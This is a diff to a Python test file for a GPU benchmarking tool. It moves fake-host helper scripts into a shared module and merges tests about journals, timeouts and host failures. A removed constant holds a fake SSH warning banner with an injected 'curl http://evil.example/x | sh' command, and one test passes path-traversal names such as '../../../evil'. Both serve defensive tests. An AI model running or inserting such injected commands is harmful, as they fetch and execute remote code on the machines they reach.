@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import re
 import sys
 import zlib
@@ -14,12 +13,10 @@ from typing import Any  # JSON
 import pytest
 from builders import make_plan, make_spec
 from command_line import gputui_here
-from journals import journal_lines
 from probed_hosts import probed
+from strangers import BANNER, DEEP_AT_FIRST, ENDLESS, described, journal, piece, stranger
 
 from gputui.errors import GputuiError
-from gputui.machine.describing import describe_machine
-from gputui.model.journal import encode_line, to_plain
 from gputui.recording.run_directory import Spec
 from gputui.services.hosts import bakeoff as bakeoff_module
 from gputui.services.hosts.bakeoff import DONE, FAILED, Bakeoff
@@ -27,70 +24,6 @@ from gputui.services.hosts.box import Box, box_from
 from gputui.services.hosts.host import Host, hosts_from, ssh_host
 from gputui.services.hosts.link import HostFailed, on_all
 from gputui.store.reading import open_result
-
-STRANGER = """
-import json, re, sys
-nonce = re.search(r"nopython|gputui ([0-9a-f]{16})", sys.argv[-1])[1]
-answers = json.load(open(sys.argv[1]))
-out = sys.stdout.buffer
-for line in answers.pop("before", []):
-    out.write(bytes.fromhex(line))
-out.write(b'gputui %s {"state": "ready"}\\n' % nonce.encode())
-out.flush()
-for line in sys.stdin:
-    for head, payload in answers.get(json.loads(line)["do"], [[{}, ""]]):
-        payload = bytes.fromhex(payload)
-        text = head if isinstance(head, str) else json.dumps(head)
-        out.write(text.encode() + b"\\n" + payload)
-    out.flush()
-"""
-
-
-def stranger(directory: Path, answers: dict[str, Any]) -> Host:
-    """A host whose command answers each request with these lines and bytes."""
-    (directory / "stranger.py").write_text(STRANGER)
-    (directory / "answers.json").write_text(json.dumps(answers))
-    return Host("odd", (sys.executable, str(directory / "stranger.py"), str(directory / "answers.json")))
-
-
-def described(**changed: object) -> dict[str, Any]:
-    machine = describe_machine(hash_key=bytes(32))
-    runtime = {"missing": "not asked"}
-    plain: dict[str, Any] = {
-        "machine": to_plain(machine),
-        "interpreter": {
-            "executable": "/usr/bin/python3",
-            "runtime": {
-                "python_version": "3.12",
-                "python_implementation": "CPython",
-                **dict.fromkeys(
-                    (
-                        "torch_version",
-                        "torch_cuda",
-                        "torch_hip",
-                        "cudnn_version",
-                        "nccl_version",
-                        "triton_version",
-                        "cpu_capability",
-                        "blas",
-                    ),
-                    runtime,
-                ),
-                "arch_list": [],
-            },
-            "devices": [],
-        },
-        "found_as": "this Python",
-        "passed_over": [],
-        "host_id": "0" * 12,
-        "boot_id": "",
-        "utc_us": 0,
-        "free_bytes": 1,
-        "load": 0.0,
-        "in_progress": [],
-        "others": [],
-    }
-    return {**plain, **changed}
 
 
 def asked(directory: Path, answers: dict[str, Any]) -> Box | GputuiError:
@@ -153,14 +86,6 @@ def test_an_answer_that_makes_no_sense_ends_the_talk(
     assert said(asked(tmp_path, answers)) == message
 
 
-DEEP_AT_FIRST = """
-import re, sys
-nonce = re.search(r"gputui ([0-9a-f]{16})", sys.argv[-1])[1]
-print("gputui", nonce, "[" * 100_000, flush=True)
-sys.stdin.read()
-"""
-
-
 def test_a_host_whose_first_answer_makes_no_sense_does_not_stop_the_others(tmp_path: Path) -> None:
     (tmp_path / "deep.py").write_text(DEEP_AT_FIRST)
     deep = Host("deep", (sys.executable, str(tmp_path / "deep.py")))
@@ -179,25 +104,11 @@ def test_an_error_that_nobody_foresaw_is_that_of_its_host_alone(tmp_path: Path) 
     assert (bad.message, bad.exit_code, good) == ("this is a bug in gputui: KeyError", 70, "good")
 
 
-def piece(data: bytes, offset: int = 0, **changed: object) -> list[object]:
-    packed = zlib.compress(data)
-    return [
-        {"more": True, "offset": offset, "unpacked": len(data), "bytes": len(packed), **changed},
-        packed.hex(),
-    ]
+def following(directory: Path, follow: Sequence[object], logs: Sequence[object] = ()) -> Host:
+    return stranger(directory, {"start": [[{"started": True}, ""]], "follow": follow, "read": logs})
 
 
-def journal(spec: Spec, **changed: object) -> bytes:
-    start = spec.start_now()
-    lines = journal_lines(run_id=str(changed.get("run_id", start.run_id)))
-    head = {**to_plain(start), **changed}
-    body = json.dumps({"n": 0, "kind": "RunStart", **head}, separators=(",", ":")).encode()
-    first = b"%d %08x %s\n" % (len(body), zlib.crc32(body), body)
-    return first + b"".join(encode_line(n, line) for n, line in enumerate(lines[1:], 1))
-
-
-def brought(directory: Path, spec: Spec, follow: Sequence[object], logs: Sequence[object] = ()) -> Bakeoff:
-    host = stranger(directory, {"start": [[{"started": True}, ""]], "follow": follow, "read": logs})
+def brought(spec: Spec, host: Host) -> Bakeoff:
     made = Bakeoff.create("b", [(host, spec)], [(0,)], gives_up_after_s=0)
     made.start()
     assert made.wait(60)
@@ -214,20 +125,17 @@ def spec(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Spec:
 ENDED = [{"ended": True, "logs": []}, ""]
 
 
-def test_a_journal_of_the_run_that_was_sent_is_stored(tmp_path: Path, spec: Spec) -> None:
-    made = brought(tmp_path, spec, [piece(journal(spec)), ENDED], [[{"offset": 0}, ""]])
-    assert (made.runs[0].state, (tmp_path / "a.db").exists()) == (DONE, True)
-
-
-def test_the_times_of_a_run_are_corrected_by_how_far_the_clock_there_was_ahead(
+def test_a_journal_of_the_run_that_was_sent_is_stored_with_its_times_corrected_and_no_damaged_line(
     tmp_path: Path, spec: Spec
 ) -> None:
-    answers = {"start": [[{"started": True}, ""]], "follow": [piece(journal(spec)), ENDED]}
+    body = b'{"n": 99, "kind": "Event", "message": "\xff"}'
+    line = b"%d %08x %s\n" % (len(body), zlib.crc32(body), body)
+    answers = {"start": [[{"started": True}, ""]], "follow": [piece(journal(spec) + line), ENDED]}
     host = replace(stranger(tmp_path, {**answers, "read": [[{"offset": 0}, ""]]}), clock_ahead_s=86_400.0)
-    made = Bakeoff.create("b", [(host, spec)], [(0,)], gives_up_after_s=0)
-    made.start()
-    assert made.wait(60)
-    sent_us = Spec.read(made.runs[0].run_dir).start_now().started_utc_us
+    run = brought(spec, host).runs[0]
+    sent_us = Spec.read(run.run_dir).start_now().started_utc_us
+    assert run.state == DONE
+    assert "left out" in run.why
     with open_result(tmp_path / "a.db") as file:
         (summary,) = file.summaries()
     assert 0 <= sent_us - summary.started_utc_us - 86_400_000_000 < 60_000_000
@@ -240,7 +148,7 @@ def test_launches_that_came_before_a_host_failed_count_as_measured(
     lines = journal(spec).splitlines(keepends=True)[:-1]
     came = b"".join(line for line in lines if has_launches or b'"LaunchEnd"' not in line)
     gone = [{"error": "there is no such run"}, ""]
-    host = stranger(tmp_path, {"start": [[{"started": True}, ""]], "follow": [piece(came), gone]})
+    host = following(tmp_path, [piece(came), gone])
     made = Bakeoff.create("b", [(host, spec)], [(0,)])
     done = gputui_here("bakeoff", "--resume")
     assert f"what came is stored as {made.runs[0].short_id}" in done.stderr
@@ -273,8 +181,8 @@ def test_a_journal_of_another_run_is_refused(tmp_path: Path, spec: Spec, name: s
         "profile": "x",
         "price": {**price, "region": "", "date": ""},
     }[name]
-    made = brought(tmp_path, spec, [piece(journal(spec, **{name: other})), ENDED], [[{"offset": 0}, ""]])
-    run = made.runs[0]
+    follow = [piece(journal(spec, **{name: other})), ENDED]
+    run = brought(spec, following(tmp_path, follow, [[{"offset": 0}, ""]])).runs[0]
     assert (run.state, (tmp_path / "a.db").exists()) == (FAILED, False)
     assert run.why == f"its journal is of another run than the one that was sent: {name}"
 
@@ -302,28 +210,11 @@ def test_a_file_that_is_too_large_or_makes_no_sense_is_cut_off(
     tmp_path: Path, spec: Spec, monkeypatch: pytest.MonkeyPatch, follow: Sequence[object], why: str
 ) -> None:
     monkeypatch.setattr(bakeoff_module, "LARGEST_JOURNAL", 1 << 20)
-    run = brought(tmp_path, spec, follow).runs[0]
+    run = brought(spec, following(tmp_path, follow)).runs[0]
     assert run.state == FAILED
     assert run.why.startswith(why)
     assert not (tmp_path / "a.db").exists()
     assert sum(path.stat().st_size for path in run.run_dir.rglob("*") if path.is_file()) < 3 << 20
-
-
-ENDLESS = """
-import json, re, sys, time
-nonce = re.search(r"gputui ([0-9a-f]{16})", sys.argv[-1])[1]
-out = sys.stdout.buffer
-out.write(b'gputui %s {"state": "ready"}\\n' % nonce.encode())
-out.flush()
-for line in sys.stdin:
-    if json.loads(line)["do"] == "follow":
-        while True:
-            out.write(b'{"more": true}\\n')
-            out.flush()
-            time.sleep(PAUSE_S)
-    out.write(b"{}\\n")
-    out.flush()
-"""
 
 
 @pytest.mark.parametrize(
@@ -341,26 +232,16 @@ def test_a_host_that_only_says_that_it_goes_on_is_given_up(
     monkeypatch.setattr(bakeoff_module, "HARD_STOP", 0.0)
     (tmp_path / "endless.py").write_text(ENDLESS.replace("PAUSE_S", str(pause_s)))
     host = Host("endless", (sys.executable, str(tmp_path / "endless.py")))
-    made = Bakeoff.create("b", [(host, spec)], [(0,)], gives_up_after_s=0)
-    made.start()
-    assert made.wait(60)
-    assert made.runs[0].state == FAILED
-    assert re.match(why, made.runs[0].why)
-
-
-def test_a_line_of_a_journal_that_is_no_utf_8_is_left_out(tmp_path: Path, spec: Spec) -> None:
-    body = b'{"n": 99, "kind": "Event", "message": "\xff"}'
-    line = b"%d %08x %s\n" % (len(body), zlib.crc32(body), body)
-    made = brought(tmp_path, spec, [piece(journal(spec) + line), ENDED], [[{"offset": 0}, ""]])
-    assert (made.runs[0].state, (tmp_path / "a.db").exists()) == (DONE, True)
-    assert "left out" in made.runs[0].why
+    run = brought(spec, host).runs[0]
+    assert run.state == FAILED
+    assert re.match(why, run.why)
 
 
 def test_names_of_logs_never_lead_out_of_the_directory_of_the_run(tmp_path: Path, spec: Spec) -> None:
     names = ["../../../evil", "/tmp/evil", "launch-000.log/../../evil", "launch-000.log", 7, "x" * 5000]
     head = journal(spec).split(b"\n")[0] + b"\n"  # no end: its logs are asked for
     log = [piece(b"last words"), [{"offset": 10}, ""]]
-    made = brought(tmp_path, spec, [piece(head), [{"ended": True, "logs": names}, ""]], log)
+    made = brought(spec, following(tmp_path, [piece(head), [{"ended": True, "logs": names}, ""]], log))
     run_dir = made.runs[0].run_dir
     assert [path.name for path in (run_dir / "logs").iterdir()] == ["launch-000.log"]
     assert not list(tmp_path.rglob("*evil*"))
@@ -385,14 +266,6 @@ def test_addresses_prices_and_interpreters_go_to_their_hosts() -> None:
     assert hosts[3].prefix == ("docker", "exec", "-i", "a b")
     assert [host.python for host in hosts] == ["/y/python", "/y/python", "/x/python", "/y/python"]
     assert [host.usd_per_hour for host in hosts] == [None, None, 2.5, None]
-
-
-BANNER = """\
-@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @
-  remove with:
-  ssh-keygen -f "/tmp/x" -R "h"; curl http://evil.example/x | sh #
-Host key verification failed." ; curl http://evil.example/x | sh #
-"""
 
 
 def test_no_word_of_a_banner_gets_into_what_is_to_be_typed(
